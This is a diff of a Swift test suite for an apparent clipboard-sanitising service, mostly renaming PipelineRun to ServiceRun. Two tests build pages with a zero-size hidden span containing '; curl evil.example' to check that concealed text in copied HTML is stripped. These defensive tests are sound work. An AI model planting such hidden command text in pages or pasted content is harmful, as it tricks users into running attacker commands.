@@ -21,15 +21,15 @@ struct HandedOnFormsTests {
   /// A copy of a page with another form beside it, up to the request for that form.
   private func run(
     _ html: String = "<p>Some words that are long enough", beside target: String, _ toml: String = ""
-  ) throws -> PipelineRun {
-    var run = PipelineRun(try configuration(toml))
+  ) throws -> ServiceRun {
+    var run = ServiceRun(try configuration(toml))
     _ = run.hears(.copied(copy(["text/html", "STRING", target])))
     _ = run.hears(.fetched(Self.id, content("text/html", Array(html.utf8))))
     _ = run.hears(.fetchFailed(Self.id, target: "STRING", SelectionError(.refused, reason: "refused")))
     return run
   }
 
-  private func forms(_ run: PipelineRun, _ target: String) -> [Offer.Form] {
+  private func forms(_ run: ServiceRun, _ target: String) -> [Offer.Form] {
     run.offers.flatMap(\.forms).filter { $0.targets == [target] }
   }
 
@@ -100,7 +100,7 @@ struct HandedOnFormsTests {
 
   @Test(arguments: unseen, ["chromium/x-web-custom-data", "text/x-moz-url-priv", "mutter"])
   func `then browsers, and programs behind a compositor, get no such form back`(html: String, name: String) throws {
-    var run = PipelineRun()
+    var run = ServiceRun()
     _ = run.hears(
       .copied(
         Copy(
@@ -115,7 +115,7 @@ struct HandedOnFormsTests {
   func `where nobody knows which program copied, all get its data if nothing was removed`(
     html: String, isOffered: Bool
   ) throws {
-    var run = PipelineRun()
+    var run = ServiceRun()
     let targets = ["text/html", "application/x-acme"]
     _ = run.hears(.copied(Copy(id: Self.id, selection: "CLIPBOARD", targets: targets, source: nil, noticed: 5)))
     _ = run.hears(.fetched(Self.id, content("text/html", Array(html.utf8))))
@@ -226,7 +226,7 @@ struct HandedOnFormsTests {
       (["text/html", "application/x-acme"], true),
       (["text/html", "application/x-acme", "chromium/x-source-url"], false),
     ] {
-      var run = PipelineRun(try configuration(rule + "[clipboard]\nhand-on = false\n"))
+      var run = ServiceRun(try configuration(rule + "[clipboard]\nhand-on = false\n"))
       _ = run.hears(.copied(copy(targets)))
       _ = run.hears(.fetched(Self.id, content("text/html", Array("<b>x</b>".utf8))))
       #expect(try run.converts() == [isHome ? "fetch application/x-acme" : "offer"])
@@ -255,7 +255,7 @@ struct HandedOnFormsTests {
   @Test(arguments: marks, ["chromium/x-source-url", "text/_moz_htmlinfo"])
   func `no mark that a page writes exempts what it hides`(html: String, browser: String) throws {
     for hides in [true, false] {
-      var run = PipelineRun()
+      var run = ServiceRun()
       _ = run.hears(.copied(copy(["text/html", "UTF8_STRING", browser])))
       let page = html + (hides ? "<i style='font-size:0'>; curl evil.example</i>" : "<i>; and more</i>")
       _ = run.hears(.fetched(Self.id, content("text/html", Array(page.utf8))))
@@ -274,7 +274,7 @@ struct HandedOnFormsTests {
   ) throws {
     let keeping = "default-profile = 'mine'\nprofiles.mine.text.hidden = 'keep'"
     for (toml, targets) in [("", ["text/html"]), (keeping, ["text/html", "chromium/x-source-url"])] {
-      var run = PipelineRun(try configuration(toml))
+      var run = ServiceRun(try configuration(toml))
       _ = run.hears(.copied(copy(targets)))
       let page = html + "<i style='font-size:0'>; curl evil.example</i>"
       _ = run.hears(.fetched(Self.id, content("text/html", Array(page.utf8))))
@@ -291,7 +291,7 @@ struct HandedOnFormsTests {
   }
 
   @Test func `text that is not valid in its encoding is left alone, never filled up`() throws {
-    var run = PipelineRun()
+    var run = ServiceRun()
     _ = run.hears(.copied(copy(["UTF8_STRING"])))
     _ = run.hears(.fetched(Self.id, content("UTF8_STRING", [0x63, 0x61, 0x66, 0xE9, 0x20, 0xE2, 0x80, 0x8B])))
     #expect(try run.converts() == ["leave", "report undecodable"])
